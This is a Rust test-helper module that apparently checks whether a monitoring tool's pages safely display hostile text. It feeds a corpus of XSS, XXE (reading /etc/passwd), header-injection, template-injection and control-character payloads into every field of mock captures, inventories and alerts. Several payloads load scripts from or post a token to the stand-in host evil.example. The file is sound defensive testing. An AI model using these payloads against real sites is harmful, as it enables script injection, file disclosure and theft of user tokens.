//! What attackers write, and a collector whose every text is of them.

use std::sync::Arc;

use collector::{ClauseValue, MatchedClause, MatchedRule};
use scap::browse::{Browsed, BrowsedEvent, BrowsedProcess, FilterError};
use serde_json::{Value, json};

use super::started::{self, Started};

/// What attackers write.
pub(crate) const CORPUS: [&str; 52] = [
    // Elements.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\u{c}>alert(1)</script\u{b}>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=token>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    // Ends of what a text is in.
    "</title></textarea></style></script><script>alert(1)</script>",
    "</td></tr></table><h1>x</h1>",
    "</main></body></html><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    // Attributes.
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=`alert(1)",
    "\" style=\"position:fixed;inset:0\" x=\"",
    "\" autofocus onfocus=alert(1) \"",
    "x\tonclick=alert(1)\ty",
    // Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt\u{0}:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "/\\evil.example",
    // References and templates.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}<%= 7*7 %>#{7*7}",
    // Characters that control what is shown, and those that are none.
    "\u{1b}]0;x\u{7}\u{1b}[2J\u{1b}[31m",
    "\u{202e}gpj.exe\u{2066}\u{2069}\u{200f}\u{61c}",
    "\u{feff}\u{200b}\u{2028}\u{2029}\u{ad}",
    "a\u{0}b\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>",
    "data: x\n\nevent: alert\ndata: <script>alert(1)</script>\n\n",
    "\u{85}\u{9b}31m\u{fffe}\u{10ffff}\u{e0001}",
];

/// Returns a text of the corpus with a mark by which a page is known to show it.
pub(crate) fn text(number: usize) -> String {
    format!("{}{}", CORPUS[number], mark(number))
}

pub(crate) fn mark(number: usize) -> String {
    format!("zq{number}qz")
}

/// What looks into captures, and what explains, with a text of the corpus wherever there is one.
pub(crate) fn hostile_collector() -> Started {
    started::start(|settings| {
        settings.browse = Some(Arc::new(|capture, query| {
            // The capture consists of the text.
            let mut text = String::new();
            capture.read_to_string(&mut text).expect("text");
            if !query.filter.is_empty() {
                return Err(FilterError {
                    message: text.clone(),
                    at: Some(3),
                    help: Some(text),
                });
            }
            let event = BrowsedEvent {
                number: 1,
                time: text.clone(),
                process: text.clone(),
                thread: text.clone(),
                call: text.clone(),
                arguments: text.clone(),
            };
            let process = BrowsedProcess {
                pid: 1,
                parent: None,
                name: text.clone(),
                command: format!("{text} {text}"),
            };
            Ok(Browsed {
                events: vec![event],
                has_more: true,
                stopped: Some(text),
                processes: vec![process],
                ..Browsed::default()
            })
        }));
        settings.explain = Some(Arc::new(|asked| {
            let alert: Value = serde_json::from_str(asked.alert).expect("JSON");
            let text = alert["output"].as_str().expect("a text").to_owned();
            let clause = MatchedClause {
                depth: 1,
                text: text.clone(),
                values: vec![(text.clone(), ClauseValue::Text(text.clone()))],
                holds: Some(true),
            };
            Ok(Some(MatchedRule {
                clauses: vec![clause],
                holds: None,
                inferred: Some(text.clone()),
                digests: vec![text],
                is_of_bundle: false,
            }))
        }));
        settings.propose = Some(Arc::new(|alert| Err(alert.to_owned())));
    })
}

/// An inventory with a text wherever an agent can put one.
pub(crate) fn inventory(text: &str) -> Value {
    let rule = json!({"rule": text, "evaluations": 64, "nanoseconds": 640});
    let policy = json!({"name": text, "state": text, "reason": text});
    json!({
        "version": text, "kernel": text, "architecture": text, "engine": text, "rules": text, "rules_enabled": text,
        "captures": true, text: text,
        "captures_on_alert": {"condition": {"priority": text, "rules": [text]}, "begun": text, "left_out": text},
        "bundle": {"digest": text, "refused": {"digest": text, "reason": text}, "policies": [policy]},
        "policy": {
            "name": text, "digest": text, "audits": text, "enforcers": {text: text}, "reasons": {text: text},
            "gaps": [text],
        },
        "rule_times": {"events": 64, "nanoseconds": 640, "rules": [rule]},
        "spool": {"pending": text, "oldest_seconds": text}, "counters": {text: text, "lost": text},
    })
}

/// An alert with a text wherever a sender can put one.
pub(crate) fn alert(rule: &str, text: &str) -> Value {
    json!({
        "rule": rule, "priority": "Warning", "output": text, "hostname": text, "source": text, "tags": [text],
        "time": text, "uuid": text, text: text,
        "output_fields": {"proc.name": text, "fd.name": text, "proc.aname[2]": text, "proc.cmdline": text, text: text,
                          "user.name": text, "container.name": text, "k8s.pod.name": text},
    })
}
